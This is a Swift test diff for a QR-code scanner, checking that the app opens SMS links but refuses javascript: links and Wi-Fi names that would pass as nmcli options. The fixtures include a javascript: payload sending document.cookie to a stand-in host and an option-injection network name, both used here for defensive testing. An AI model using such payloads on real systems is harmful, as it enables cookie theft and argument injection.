@@ -75,6 +75,33 @@ import Testing
         #expect(grid.lines[0].contains("aim the code into the brackets"))
     }
 
+    func reading(_ text: String) -> LiveState {
+        var (state, area) = started()
+        let read = DetectedCode(symbology: .qr, bytes: Array(text.utf8), corners: code.corners)
+        _ = state.update(.scanned(FrameReading(codes: [read], frameSequence: 0, area: area), now: 1))
+        return state
+    }
+
+    /// `o` hands a handler the URI it takes; what runs code or opens local files never goes,
+    /// however often `o` is pressed, and the notice says why.
+    @Test func oOpensWhatAHandlerTakesAndNeverAScript() {
+        var sms = reading("SMSTO:+15551234:hi there")
+        #expect(sms.update(.key(.character("o"))) == [.open("sms:+15551234?body=hi%20there")])
+        var script = reading("javascript:fetch('//x.example/'+document.cookie)")
+        for _ in 0..<3 {
+            #expect(script.update(.key(.character("o"))) == [.bell])
+            #expect(script.notice?.text == "not opened: javascript: links run code or open local files")
+        }
+    }
+
+    /// A network whose name starts with `-` is not handed to nmcli, which would take it for an option.
+    @Test func aNetworkNamedLikeAnOptionIsNotJoined() {
+        var state = reading("WIFI:T:WPA;S:-hostile;P:password --ask;;")
+        #expect(state.update(.key(.character("w"))) == [.bell])
+        #expect(state.update(.key(.character("w"))) == [.bell])
+        #expect(state.notice?.text == "not joined: the network's name starts with '-'")
+    }
+
     @Test func glyphsAndFiltersSayWhatTheyAre() {
         var options = Options()
         options.symbologies = [.ean13]
